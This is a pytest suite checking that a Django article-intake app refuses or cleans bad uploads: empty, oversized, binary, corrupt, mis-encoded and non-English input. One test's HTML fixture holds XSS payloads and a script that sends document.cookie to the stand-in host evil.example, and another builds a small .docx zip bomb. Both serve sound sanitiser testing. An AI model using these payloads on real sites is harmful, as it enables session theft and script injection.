"""Bad input in the text (empty, size, not text, encodings, HTML, shape, language): clear message, no rows.

Issue 6: every case gets a clear message on the form, no 500, and no partial rows (Article, Claim,
Figure, Actor and Outlet rows are counted before and after).
"""

from __future__ import annotations

import io
import random
import zipfile

import bad_input_fixtures
import pytest
from bad_input_fixtures import file
from django.urls import reverse
from intake_helpers import STORY, make_pdf

from narratives import intake, services
from narratives.models import Article

pytest_plugins = ["intake_fixtures"]  # fixtures: bridge, fake_nlp

# post is bound here, not loaded as a plugin: a plugin's fixtures are global.
post = bad_input_fixtures.post


RUSSIAN = (
    "Министр обороны заявил во вторник, что войска будут выведены из страны в ближайшие недели. "
    "Он добавил, что операция против террористов успешно завершена, а база останется на месте."
)
FRENCH = (
    "Le ministre de la Défense a déclaré mardi que les troupes resteraient déployées dans le pays. "
    "« Nous restons », a-t-il dit à la presse, évoquant la fin prochaine de la guerre."
)
SPANISH = (
    "El ministro de Defensa dijo el martes que las tropas permanecerían en el país hasta el final del año. "
    "«Nos quedamos», afirmó ante la prensa, según informó la agencia de noticias."
)


# --- empty ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("htmx", [False, True])
@pytest.mark.parametrize("text", ["", "   ", " \n\t\r\n \u00a0 "])
def test_empty_or_whitespace_text(post, fake_nlp, text, htmx):
    html = post({"text": text, "title": "Empty", "outlet": "Brand New Outlet"}, htmx=htmx)
    assert "Paste the article text or choose a file." in html
    assert ("<html" in html) is not htmx
    assert fake_nlp == []


def test_text_without_words(post):
    assert "The text has no words in it." in post({"text": "... --- !!! 42 ///"})


def test_empty_and_blank_files(post):
    assert "The submitted file is empty." in post(file("a.txt", b""))  # Django's own check
    assert "The file is empty." in post(file("a.txt", b" \n\n \t"))


# --- size ----------------------------------------------------------------------------------------------


def test_file_over_the_limit_stops_at_the_limit(post, settings):
    settings.NARRATIVES_MAX_UPLOAD_BYTES = 2048
    html = post({"title": "Kept", **file("big.txt", b"Ann said the bridge was closed. " * 200)})
    assert "The file is larger than the 2 KB limit." in html
    assert 'value="Kept"' in html  # the fields before the file survive


def test_text_over_the_limit(post, settings):
    settings.NARRATIVES_MAX_UPLOAD_BYTES = 2048
    assert "The text is larger than the 2 KB limit." in post(
        {"text": "Ann said the bridge was closed. " * 100}
    )


@pytest.mark.parametrize("htmx", [False, True])
def test_body_over_djangos_request_limit_gets_the_form_not_a_400(post, settings, htmx):
    settings.NARRATIVES_MAX_UPLOAD_BYTES = 2048
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 4096
    html = post({"text": "x" * 10_000}, status=200 if htmx else 413, htmx=htmx)
    assert "The upload is larger than the 2 KB limit; nothing was stored." in html
    assert 'id="upload-form"' in html


# --- not text --------------------------------------------------------------------------------------


def test_binary_file_renamed_txt(post):
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + random.Random(1).randbytes(3000)
    assert "This file is binary data, not text." in post(file("photo.txt", png))
    assert "This file is binary data, not text." in post(file("noise.md", random.Random(2).randbytes(3000)))


@pytest.mark.parametrize("cut", [0.3, 0.6, 0.9])
def test_truncated_pdf(post, cut):
    pdf = make_pdf([STORY], title="Whole")
    assert "This PDF is damaged or truncated" in post(file("a.pdf", pdf[: int(len(pdf) * cut)]))


def test_corrupt_pdfs(post):
    assert "This file is not a PDF" in post(file("a.pdf", b"GIF89a" + b"\x00" * 100))
    garbled = make_pdf([STORY]).replace(b"/Type /Pages", b"/Type /Junk!").replace(b"xref", b"xxxx")
    assert "This PDF is damaged or truncated" in post(file("b.pdf", garbled))
    assert "no text layer" in post(file("c.pdf", make_pdf([])))


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def test_docx_that_is_a_zip_of_junk(post):
    assert "is not a Word document (it is some other zip file)" in post(
        file("a.docx", _zip({"junk.bin": random.Random(3).randbytes(500)}))
    )
    junk_parts = _zip({"[Content_Types].xml": b"junk", "word/document.xml": b"<w:document><unclosed"})
    assert "This .docx is damaged" in post(file("b.docx", junk_parts))
    assert "This .docx is damaged or is not a Word document." in post(
        file("c.docx", b"PK\x03\x04 not really")
    )


def test_docx_zip_bomb_is_refused_before_unpacking(post, monkeypatch):
    monkeypatch.setattr(intake.formats, "MAX_DOCX_UNZIPPED", 10_000)
    bomb = _zip({"word/document.xml": b"<a/>" + b" " * 50_000, "[Content_Types].xml": b"<Types/>"})
    assert "unpacks to more than" in post(file("bomb.docx", bomb))


# --- encodings --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text, encoding, language",
    [
        (RUSSIAN, "cp1251", "ru"),
        (RUSSIAN, "koi8-r", "ru"),
        (FRENCH, "latin-1", "fr"),
        (SPANISH, "cp1252", "es"),
    ],
)
def test_legacy_encodings_are_detected(post, fake_nlp, text, encoding, language):
    post(file("story.txt", text.encode(encoding)), stores=True)
    article = Article.objects.get()
    assert article.text == text and article.language == language


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"])
def test_utf16_and_bom_files(post, encoding):
    post(file("story.txt", STORY.encode(encoding)), stores=True)
    article = Article.objects.get()
    assert article.text == STORY and article.claims.count() == 2


def test_invalid_utf8_bytes_are_refused_not_garbled(post):
    data = (
        "Café owners said the bridge – closed since May – cost them dearly. ".encode() * 3 + b"\xff\xfe\xfa"
    )
    assert "The file is UTF-8 with invalid bytes (the first at byte 216)" in post(file("a.txt", data))


def test_undetectable_encoding_is_a_clear_error(post):
    noise = bytes(random.Random(4).choice([*range(0xA0, 0x100), 0x20]) for _ in range(400))
    assert "could not tell which character encoding" in post(file("a.txt", noise))


# --- HTML -------------------------------------------------------------------------------------------------


def test_hostile_html_keeps_only_the_article_text(post, analyst_client):
    html = (
        "<html><head><title>Bridge</title><script>alert('head')</script></head>"
        "<body onload=\"alert('body')\"><iframe src='https://evil.example/'></iframe><article>"
        f"<p onclick=\"alert('p')\">{STORY}</p>"
        "<p>Read <a href=\"javascript:alert('link')\">the statement</a> and see "
        "<img src=x onerror=\"alert('img')\"> the photos of the closed bridge taken on Monday.</p>"
        "<script>document.location='https://evil.example/?c='+document.cookie</script>"
        "<svg onload=alert('svg')></svg></article></body></html>"
    )
    post(file("page.html", html.encode()), stores=True)
    article = Article.objects.get()
    assert "Ann Lee said the bridge was closed" in article.text and "the statement" in article.text
    for bad in ("<", "alert", "javascript:", "onerror", "onclick", "iframe", "evil.example", "cookie"):
        assert bad not in article.text, bad
    page = analyst_client.get(article.get_absolute_url()).content.decode()
    assert "alert(" not in page and "evil.example" not in page


def test_html_with_no_article_body(post):
    html = (
        b"<html><head><title>Menu</title><script>var a=1;</script></head>"
        b"<body><nav><a href='/'>Home</a></nav></body></html>"
    )
    assert "No article text could be found in this HTML page" in post(file("menu.html", html))


# --- shape ---------------------------------------------------------------------------------------------


def test_200000_characters_without_punctuation_are_refused_with_the_limit(post, fake_nlp):
    words = random.Random(5).choices(["bridge", "closed", "said", "minister", "river", "traffic"], k=40_000)
    text = " ".join(words)[:200_000]
    html = post({"text": text})
    assert "The article is 200,000 characters long; Parallax extracts articles of up to 100,000" in html
    assert fake_nlp == []


@pytest.mark.slow
def test_one_sentence_of_5000_words_goes_through_the_real_pipeline(analyst_client, bridge):
    words = random.Random(6).choices(
        ["the", "bridge", "was", "closed", "and", "officials", "said", "it"], k=5000
    )
    text = "Ann Lee said " + " ".join(words) + "."
    response = analyst_client.post(reverse("article_new"), {"text": text})
    article = Article.objects.get()
    assert response["Location"] == article.get_absolute_url()
    assert article.status == Article.Status.DONE
    assert all(0 <= c.start < c.end <= len(article.text) for c in article.claims.all())


@pytest.mark.slow
def test_10000_blank_lines_are_collapsed_and_extracted(analyst_client, bridge):
    text = "Ann Lee said the bridge was closed." + "\n" * 10_000 + "Bob Ray said it would open soon."
    analyst_client.post(reverse("article_new"), {"text": text})
    article = Article.objects.get()
    assert article.text == "Ann Lee said the bridge was closed.\n\nBob Ray said it would open soon."
    assert article.status == Article.Status.DONE and article.claims.count() == 2


def test_blank_lines_only_in_a_file(post):
    assert "The file is empty." in post(file("a.txt", b"\n" * 10_000))


# --- language -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "text, code, name", [(RUSSIAN, "ru", "Russian"), (FRENCH, "fr", "French"), (SPANISH, "es", "Spanish")]
)
def test_non_english_is_stored_with_its_language_and_nothing_extracted(
    analyst_client, bridge, fake_nlp, text, code, name
):
    response = analyst_client.post(reverse("article_new"), {"text": text}, follow=True)
    article = Article.objects.get()
    assert (article.language, article.status, article.claims.count(), article.figures.count()) == (
        code,
        Article.Status.DONE,
        0,
        0,
    )
    assert fake_nlp == []  # the English pipeline never saw it
    html = response.content.decode()
    assert f"The article is in {name}. Parallax extracts claims from English text only for now" in html


def test_non_english_is_not_queued_for_a_worker(bridge, fake_nlp, monkeypatch):
    queued = []
    monkeypatch.setattr("narratives.celery.runs_eagerly", lambda: False)
    monkeypatch.setattr("narratives.services.queue.enqueue_extraction", lambda pk, **kw: queued.append(pk))
    result = services.ingest_article(text=RUSSIAN)
    assert queued == [] and not result.queued and fake_nlp == []
    assert (result.article.status, result.article.language) == (Article.Status.DONE, "ru")


def test_re_extraction_of_a_non_english_article_stays_empty(bridge, fake_nlp):
    article = services.ingest_article(text=FRENCH).article
    summary = services.extract_article(article=article)
    assert summary.added == 0 and summary.notes and fake_nlp == []
